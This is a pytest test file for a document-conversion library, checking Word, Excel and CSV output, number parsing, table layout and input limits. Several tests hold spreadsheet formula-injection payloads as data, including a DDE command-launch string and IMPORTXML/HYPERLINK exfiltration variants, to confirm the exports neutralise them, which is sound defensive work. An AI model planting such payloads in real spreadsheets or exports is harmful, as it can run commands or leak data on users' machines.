"""Word, Excel and CSV of a document."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from base64 import b64encode
from collections.abc import Sequence
from dataclasses import replace

import docx
import orjson
import pytest
from docx.enum.text import WD_ALIGN_PARAGRAPH

from inkgate.documents.files import excel, word
from inkgate.documents.files.write import converted
from inkgate.errors import InputRejected
from inkgate.layout.regions.figure_links import with_images
from inkgate_client.block_image import BlockImage
from inkgate_client.formats import Format, render
from inkgate_client.formats.tables import tables_of
from inkgate_client.numbers import decimal_mark, number_of
from inkgate_client.types import Block, BlockType, DocumentResult, PageError, PageResult, Table, TableCell

HOSTILE = "=cmd|' /C calc'!A0"
TABLE = Table(
    3,
    3,
    (
        TableCell(0, 0, "Item", header=True),
        TableCell(0, 1, "Price", column_span=2, header=True),
        TableCell(1, 0, HOSTILE, row_span=2),
        TableCell(1, 1, "1,234.50"),
        TableCell(1, 2, "007"),
        TableCell(2, 1, "-12.5%"),
        TableCell(2, 2, "a\x00b"),
    ),
)
MORE = Table(1, 3, (TableCell(0, 0, "+1"), TableCell(0, 1, "two"), TableCell(0, 2, "@three")), continues=True)


def _block(kind: BlockType, markdown: str, **more: object) -> Block:
    return Block(kind, (0, 0, 10, 10), (), markdown, markdown, **more)  # type: ignore[arg-type]


DOCUMENT = DocumentResult(
    "a.pdf",
    "application/pdf",
    1,
    3,
    "fake",
    (
        PageResult(
            0,
            100,
            100,
            blocks=(
                _block(BlockType.TITLE, "## Ink \\* Gate", level=2),
                _block(BlockType.TEXT, "A **bold** and *light* text  \nin two rows"),
                _block(BlockType.LIST, "- one\n  - two\n3. three"),
                _block(BlockType.CAPTION, "Prices: [1]"),
                _block(BlockType.TABLE, "...", table=TABLE),
            ),
        ),
        PageResult(1, 100, 100, blocks=(_block(BlockType.TABLE, "...", table=MORE),)),
        PageResult(2, error=PageError("page_broken", "It ends early.", "")),
    ),
)


def test_word_has_headings_runs_lists_tables_with_spans_and_notes_of_failed_pages() -> None:
    document = docx.Document(io.BytesIO(word.render(DOCUMENT)))
    texts = [(paragraph.style.name if paragraph.style else "", paragraph.text) for paragraph in document.paragraphs]
    assert texts[:6] == [
        ("Heading 2", "Ink * Gate"),
        ("Normal", "A bold and light text\nin two rows"),
        ("List Bullet", "one"),
        ("List Bullet 2", "two"),
        ("List Continue", "3.\tthree"),
        ("Caption", "Prices: [1]"),
    ]
    runs = {run.text: (run.bold, run.italic) for run in document.paragraphs[1].runs}
    assert runs["bold"] == (True, False)
    assert runs["light"] == (False, True)
    assert "Page 3 could not be read" in document.paragraphs[-1].text
    table = document.tables[0]
    assert table.cell(0, 1).text == table.cell(0, 2).text == "Price"
    assert table.cell(1, 0).text == table.cell(2, 0).text == HOSTILE
    assert table.cell(2, 2).text == "ab"


def _word_table(rows: Sequence[Sequence[str]]) -> docx.table.Table:
    cells = [TableCell(y, x, text) for y, row in enumerate(rows) for x, text in enumerate(row)]
    block = _block(BlockType.TABLE, "...", table=Table(len(rows), len(rows[0]), tuple(cells)))
    page = PageResult(0, 100, 100, blocks=(block,))
    return docx.Document(io.BytesIO(word.render(DocumentResult("a", "a/a", 1, 1, "f", (page,))))).tables[0]


def test_columns_of_a_word_table_are_as_wide_as_their_content_and_numbers_stand_at_the_right() -> None:
    label = "Provisions for pensions and similar obligations"
    row = [label, "12", "614,326,042", "(202,724,977)"]
    table = _word_table([["Item", "Note", "2024", "Change"], row, row])
    widths = [column.width or 0 for column in table.columns]
    assert [cell.width for cell in table.rows[1].cells] == widths
    assert sum(widths) <= docx.shared.Inches(6.01)
    assert widths[1] < widths[2] < widths[3] < widths[0]
    digit = docx.shared.Pt(6)
    assert widths[3] >= len("(202,724,977)") * digit
    right = WD_ALIGN_PARAGRAPH.RIGHT
    assert [cell.paragraphs[0].alignment for cell in table.rows[1].cells] == [None, right, right, right]


def test_a_word_table_that_is_too_wide_has_a_smaller_font_and_unbroken_numbers() -> None:
    table = _word_table([["Item", *["614,326,042"] * 8]] * 3)
    run = table.cell(1, 1).paragraphs[0].runs[0]
    assert run.font.size is not None
    assert 6 <= run.font.size.pt < 11
    width = table.columns[1].width or 0
    assert width >= len("614,326,042") * run.font.size * 6 / 11
    assert sum(column.width or 0 for column in table.columns) <= docx.shared.Inches(6.05)


def test_word_shows_markdown_of_pages_without_blocks_and_pictures_of_figures() -> None:
    png = (
        "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b550000000a49444154789c63600000000200"
        "01e221bc330000000049454e44ae426082"
    )
    plain = DocumentResult("a", "image/png", 1, 1, "f", (PageResult(0, text="x", markdown="# One\n\ntwo\n\n- three"),))
    document = docx.Document(io.BytesIO(word.render(plain)))
    assert [p.style.name for p in document.paragraphs if p.style] == ["Heading 1", "Normal", "List Bullet"]
    image = BlockImage("page-1-1.png", "image/png", 1, 1, b64encode(bytes.fromhex(png)).decode())
    block = replace(_block(BlockType.FIGURE, "> [Figure: Hills]"), box=(0, 0, 300, 300))
    figure = with_images(PageResult(0, 400, 400, 100.0, blocks=(block,)), {0: image})
    pictured = docx.Document(io.BytesIO(word.render(DocumentResult("a", "image/png", 1, 1, "f", (figure,)))))
    assert [shape.width.inches for shape in pictured.inline_shapes] == [3.0]  # as wide as on the page
    assert [paragraph.text for paragraph in pictured.paragraphs] == ["", "Hills"]
    for broken in (replace(image, base64="!"), replace(image, base64="AAAA"), replace(image, height=0)):  # of a client
        sent = with_images(replace(figure, blocks=(block,)), {0: broken})
        written = docx.Document(io.BytesIO(word.render(DocumentResult("a", "image/png", 1, 1, "f", (sent,)))))
        assert [paragraph.text for paragraph in written.paragraphs] == ["", "Hills"]


def test_excel_has_numbers_as_numbers_and_no_formulas() -> None:
    book = zipfile.ZipFile(io.BytesIO(excel.render(DOCUMENT)))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    names = book.read("xl/workbook.xml").decode()
    assert "<f>" not in sheet
    assert "<v>1234.5</v>" in sheet
    assert "<v>-0.125</v>" in sheet
    assert 'ref="B1:C1"' in sheet
    assert 'ref="A2:A3"' in sheet
    strings = book.read("xl/sharedStrings.xml").decode()
    assert "007" in strings
    assert HOSTILE in strings
    assert 'name="Prices   1"' in names  # characters that names may not have are spaces
    assert names.count("<sheet ") == 1  # the table goes on on page 2
    assert 'r="B4"' in sheet


def test_excel_of_a_document_without_tables_can_be_opened() -> None:
    empty = DocumentResult("a", "image/png", 1, 1, "f", (PageResult(0, text="x"),))
    names = zipfile.ZipFile(io.BytesIO(excel.render(empty))).read("xl/workbook.xml").decode()
    assert 'name="No tables"' in names


def test_a_caption_may_be_the_name_of_another_sheet() -> None:
    table = _block(BlockType.TABLE, "", table=MORE)
    captions = [_block(BlockType.CAPTION, text) for text in ("Table 3, page 1", "TABLE 3, PAGE 1 (2)")]
    first, second = (replace(MORE, continues=False) for _ in range(2))
    blocks = [captions[0], replace(table, table=first), captions[1], replace(table, table=second)]
    pages = (PageResult(0, 100, 100, blocks=(*blocks, replace(table, table=first))),)
    book = zipfile.ZipFile(io.BytesIO(excel.render(replace(DOCUMENT, pages=pages))))
    assert b'name="Table 3, page 1 (3)"' in book.read("xl/workbook.xml")


def test_ends_of_marks_are_not_sought_in_the_whole_page() -> None:
    """Or marks without an end, each sought in all that follows, would take minutes."""
    texts = ["*" + "a" * 1000 + "*", "<!--" + "b" * 1000 + "-->", "*a " * 5000]
    pages = (PageResult(0, 100, 100, text="\n\n".join(texts)),)
    document = docx.Document(io.BytesIO(word.render(replace(DOCUMENT, pages=pages))))
    assert [each.text for each in document.paragraphs] == texts


def test_csv_has_all_tables_and_no_formulas() -> None:
    text = render(DOCUMENT, Format.CSV).decode()
    assert text == (f"Item,Price,\r\n'{HOSTILE},\"1,234.50\",007\r\n,-12.5%,ab\r\n+1,two,'@three\r\n")
    assert render(DocumentResult("a", "image/png", 1, 1, "f", ()), Format.CSV) == b""


FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")'),
    *('=IMPORTXML(CONCAT("http://x?",A1),"//a")', "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1"),
    *("\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "\u202e=1+1", "\x00=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1"),
    *("\uff20SUM(1)", '=1+1";=1+1', "'\"=1+1", "=1,=1", "--1", "=-12.50", "\u22121+1", "+49 (0) 30/1234"),
)
NUMBERS = {
    "-12.50": -12.5,
    "+1": 1.0,
    "-1,234.50": -1234.5,
    "-12.5%": -0.125,
    "(45)": -45.0,
    "\u22123": -3.0,
    "007": None,
}


def _table_of(texts: Sequence[str]) -> DocumentResult:
    table = Table(len(texts), 1, tuple(TableCell(row, 0, text) for row, text in enumerate(texts)))
    return replace(DOCUMENT, pages=(PageResult(0, 100, 100, blocks=(_block(BlockType.TABLE, "", table=table),)),))


def test_no_spreadsheet_computes_what_a_document_says() -> None:
    """In CSV, a spreadsheet drops a byte order mark and white space before it looks for the sign of a formula."""
    for text in FORMULAS:
        csv_file = render(_table_of([text]), Format.CSV).decode()
        ((cell,),) = csv.reader(io.StringIO(csv_file, newline=""))
        seen = cell.strip().lstrip("\ufeff\u200b\u202e\u00a0")
        assert not seen.startswith(("=", "+", "-", "@", "\u2212", "\uff1d", "\uff0b", "\uff0d", "\uff20")), repr(text)
        book = zipfile.ZipFile(io.BytesIO(excel.render(_table_of([text]))))
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f" not in sheet.partition("<sheetData>")[2], repr(text)
        assert '<c r="A1" s="1" t="s"><v>0</v></c>' in sheet, repr(text)  # the first shared string
        assert "externalLink" not in str(book.namelist()), repr(text)
        if not text.startswith("'"):
            assert 'quotePrefix="1"' in book.read("xl/styles.xml").decode(), repr(text)


def test_numbers_are_no_formulas() -> None:
    rows = list(csv.reader(io.StringIO(render(_table_of(list(NUMBERS)), Format.CSV).decode(), newline="")))
    assert [cell for (cell,) in rows] == list(NUMBERS)
    book = zipfile.ZipFile(io.BytesIO(excel.render(_table_of(list(NUMBERS)))))
    found = re.findall(r'<c r="A\d" s="\d"( t="s")?><v>([^<]*)</v>', book.read("xl/worksheets/sheet1.xml").decode())
    assert [None if kind else float(value) for kind, value in found] == list(NUMBERS.values())
    assert "quotePrefix" not in book.read("xl/styles.xml").decode()


def test_csv_quotes_signs_only_where_a_formula_could_begin() -> None:
    plain = ["-", "- -", "-12.50 EUR", "-$12.50", "- 5 %", "+49 (0)30 1234567", "-EUR 3"]
    formulas = [
        "-1+1",
        "--1",
        "-1+cmd|' /C calc'!A0",
        "-AB1",
        "-ABC",
        "-SUM(1)",
        "-SUM (1)",
        "-EUR1",
        "+49-30",
        "+A1 2",
        "-1\n=2",
    ]
    rows = list(csv.reader(io.StringIO(render(_table_of(plain + formulas), Format.CSV).decode(), newline="")))
    assert [cell for (cell,) in rows] == [*plain, *(f"'{text}" for text in formulas)]


def test_a_table_that_goes_on_is_one_table() -> None:
    (table,) = tables_of(DOCUMENT)
    assert (table.page, table.rows, table.columns, table.caption) == (1, 4, 3, "Prices: [1]")


@pytest.mark.parametrize("mark", ["", ".", ","])
def test_numbers(mark: str) -> None:
    cases = {
        "12": (12.0, 12.0, 12.0),
        "1,234": (1234.0, 1234.0, 1.234),
        "1.234": (None, 1.234, 1234.0),
        "1.5": (1.5, 1.5, None),
        "1,234.5": (1234.5, 1234.5, None),
        "1.234,5": (1234.5, None, 1234.5),
        "1 234,50": (1234.5, None, 1234.5),
        "(45)": (-45.0, -45.0, -45.0),
        "-3": (-3.0, -3.0, -3.0),
        "\u22123": (-3.0, -3.0, -3.0),
        "50 %": (0.5, 0.5, 0.5),
        "007": (None, None, None),
        "0.5": (0.5, 0.5, None),
        "12345678901234567": (None, None, None),
        "1,23,456": (None, None, None),
        "12-34": (None, None, None),
        "(3": (None, None, None),
        "3)": (None, None, None),
        "": (None, None, None),
        "3 m": (None, None, None),
    }
    at = ["", ".", ","].index(mark)
    found = {text: number_of(text, mark) for text in cases}
    wrong = [
        (text, mark, number, values[at])
        for (text, values), number in zip(cases.items(), found.values(), strict=True)
        if (None if number is None else number.value) != values[at]
    ]
    assert wrong == []


def test_the_decimal_mark_is_that_of_the_tables_numbers() -> None:
    assert decimal_mark(["1,234", "2.50"]) == "."
    assert decimal_mark(["1.234", "2,5"]) == ","
    assert decimal_mark(["1.234.567"]) == ","
    assert decimal_mark(["1,234", "text"]) == ""


def test_a_document_of_many_large_tables_is_not_converted() -> None:
    table = {"rows": 100_000, "columns": 2, "cells": [{"row": 0, "column": 0, "text": "x"}]}
    block = {"type": "table", "box": [0, 0, 9, 9], "lines": [], "text": "x", "markdown": "x", "table": table}
    pages = [{"index": i, "width": 100, "height": 100, "blocks": [block]} for i in range(2)]
    facts = {"name": "x", "mime_type": "image/png", "byte_count": 1, "page_count": 2, "engine": "e"}
    document = {"schema_version": 1, **facts, "notes": [], "pages": pages}
    assert converted(orjson.dumps({**document, "pages": pages[:1]}), Format.CSV).startswith(b"x,\r\n,\r\n")
    with pytest.raises(InputRejected, match=r"400,000 places .* at most 200,000"):
        converted(orjson.dumps(document), Format.CSV)


@pytest.mark.parametrize("part", ["blocks", "left_out", "corrections"])
def test_a_document_that_names_lines_that_are_not_there_is_not_converted(part: str) -> None:
    line = {"text": "a", "quad": [[0, 0], [9, 0], [9, 9], [0, 9]], "confidence": 1}
    parts = {
        "blocks": {"type": "text", "box": [0, 0, 9, 9], "lines": [1], "text": "a", "markdown": "a"},
        "left_out": {"text": "a", "reason": "invisible", "lines": [-1], "box": None},
        "corrections": {"line": 10**18, "text": "a", "read_as": "b"},
    }
    page = {"index": 0, "width": 100, "height": 100, "lines": [line], part: [parts[part]]}
    facts = {"name": "x", "mime_type": "image/png", "byte_count": 1, "page_count": 1, "engine": "e", "notes": []}
    with pytest.raises(InputRejected, match="Page 1 of the document has 1 lines"):
        converted(orjson.dumps({"schema_version": 1, **facts, "pages": [page]}), Format.MARKDOWN, marks=True)
